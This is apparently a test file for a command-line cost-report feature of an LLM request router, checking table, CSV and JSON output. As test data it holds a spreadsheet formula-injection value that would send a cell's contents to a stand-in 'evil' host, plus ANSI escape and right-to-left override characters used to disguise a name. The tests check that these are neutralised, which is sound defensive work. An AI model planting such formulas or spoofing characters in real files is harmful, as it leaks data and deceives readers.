import assert from 'node:assert/strict';
import type { Report } from '../../shared/model/report.ts';
import { openaiChat } from '../support/openai-answers.ts';
import { eventually, RouterFixture } from '../support/router-fixture.ts';
import { Cli, type Outcome } from './cli.ts';

const BODY = { model: 'gpt-4o', max_tokens: 9, messages: [{ role: 'user', content: 'hello' }] };
const FORMULA = '=HYPERLINK("http://evil/?"&A1)';
/** Two requests of 100 input and 20 output tokens each cost the same. */
const USAGE = { inputTokens: 100, outputTokens: 20 };

describe('reports on the command line', () => {
  let router: RouterFixture;
  let cli: Cli;
  let costNano: number;

  before(async () => {
    [router, cli] = await Promise.all([RouterFixture.start(), Cli.create()]);
    await router.addKey('openai', 'work');
    router.openai.on({ method: 'POST' }, openaiChat({ text: ['hello'], usage: USAGE }));
    const site = await router.virtualKey({ name: 'laptop', team: 'web', project: 'site', tool: 'cline' });
    const app = await router.virtualKey({ name: 'ci', project: '@SUM(A1)', tags: [FORMULA] });
    for (const token of [site, site, app, router.token]) {
      const answer = await router.post('/v1/chat/completions', BODY, {
        authorization: `Bearer ${token}`,
        'x-tags': 'nightly',
        'x-session-id': 'talk\u00a7-1',
      });
      assert.equal(answer.status, 200, await answer.text());
    }
    const [trace] = await router.traces(4);
    costNano = trace?.costNano ?? 0;
    assert.ok(costNano > 0);
  });
  after(async () => {
    await router.stop();
    await cli.dispose();
  });

  function report(...args: readonly string[]): Promise<Outcome> {
    return cli.run(['--home', router.folder.path, 'report', ...args]);
  }

  it('are a table for people', async () => {
    const { out, code } = await report();
    assert.equal(code, 0);
    const lines = out.trimEnd().split('\n');
    assert.match(lines[0] ?? '', /^PROJECT +REQUESTS +ATTEMPTS +INPUT +OUTPUT +COST$/);
    assert.match(lines[1] ?? '', /^site +2 +2 +200 +40 +\$/);
    assert.match(lines.find((line) => line.startsWith('(none)')) ?? '', /^\(none\) +1 +1 /);
    assert.match(lines.at(-1) ?? '', /^total +4 +4 +400 +80 +\$/);
  });

  it('name keys', async () => {
    const { out } = await report('--by', 'virtual-key,key');
    assert.match(out, /^laptop +work +2 /m);
    assert.match(out, /^ci +work +1 /m);
  });

  it('are exact in CSV, in which no cell is a formula', async () => {
    const { out, code } = await report('--by', 'project,tag,key', '--since', '1h', '--format', 'csv');
    assert.equal(code, 0);
    const lines = out.split('\r\n');
    assert.equal(
      lines[0],
      'project,tag,key,key_name,requests,attempts,input_tokens,cache_read_tokens,cache_write_tokens,output_tokens,cost_usd,estimated_usd,unknown_usd',
    );
    const usd = (nano: number): string => (nano / 1e9).toFixed(9);
    const { keys } = await router.daemon.api<{ keys: readonly { readonly id: string }[] }>('GET', '/keys');
    const key = `${keys[0]?.id},work`;
    assert.equal(lines[1], `site,nightly,${key},2,2,200,0,0,40,${usd(2 * costNano)},0.000000000,0.000000000`);
    assert.ok(lines.includes(`,nightly,${key},1,1,100,0,0,20,${usd(costNano)},0.000000000,0.000000000`));
    assert.ok(
      lines.includes(
        `'@SUM(A1),"'=HYPERLINK(""http://evil/?""&A1)",${key},1,1,100,0,0,20,${usd(costNano)},0.000000000,0.000000000`,
      ),
      out,
    );
  });

  it('are JSON for programs', async () => {
    for (const args of [['--format', 'json'], ['--json']]) {
      const { out } = await report('--by', 'day,team', ...args);
      const found = JSON.parse(out) as Report;
      assert.deepEqual(found.by, ['day', 'team']);
      assert.equal(found.rows.length, 2);
      assert.equal(found.total.costNano, 4 * costNano);
    }
  });

  it('agree with the ledger and with the traces', async () => {
    const { entries } = await router.daemon.api<{ entries: readonly { readonly costNano: number }[] }>(
      'GET',
      '/ledger',
    );
    const ledger = entries.reduce((sum, entry) => sum + entry.costNano, 0);
    const found = await eventually(() => router.daemon.api<Report>('GET', '/reports?by=model&since=1h'));
    assert.equal(found.total.costNano, ledger);
  });

  it('say what is possible when asked for what is not', async () => {
    for (const [args, message] of [
      [['--by', 'colour'], /There is no report by "colour"\. There are: team, project, tool, /],
      [['--since', 'yesterday'], /"since" takes 30m, 24h, 7d, 4w, a date such as 2026-11-01/],
      [['--since', '2026-13-01T00:00:00Z'], /"since" takes/],
      [['--since', '1h', '--until', '2h'], /The time of "since" is not before "until"/],
    ] as const) {
      const { code, err } = await report(...args);
      assert.equal(code, 1);
      assert.match(err, message);
    }
    assert.equal((await report('--format', 'xml')).code, 2);
  });

  it('show no control character of a name', async () => {
    const token = await router.virtualKey({ name: 'x', project: 'red\u001b[31m\u202edrowssap' });
    await (await router.post('/v1/chat/completions', BODY, { authorization: `Bearer ${token}` })).text();
    const { out } = await report();
    assert.match(out, /^red\?\[31m\?drowssap /m);
  });
});
